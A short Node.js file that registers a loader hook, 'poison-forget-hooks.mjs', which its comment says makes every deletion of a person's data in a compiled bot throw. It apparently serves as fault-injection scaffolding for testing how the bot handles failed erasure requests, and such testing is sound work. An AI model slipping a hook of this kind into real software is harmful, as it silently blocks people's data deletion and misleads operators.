import { register } from 'node:module';

/** Plants a bug in the compiled bot as it is loaded: every deletion of a person's data throws. Tries follow one another quickly. */
register('./poison-forget-hooks.mjs', import.meta.url);
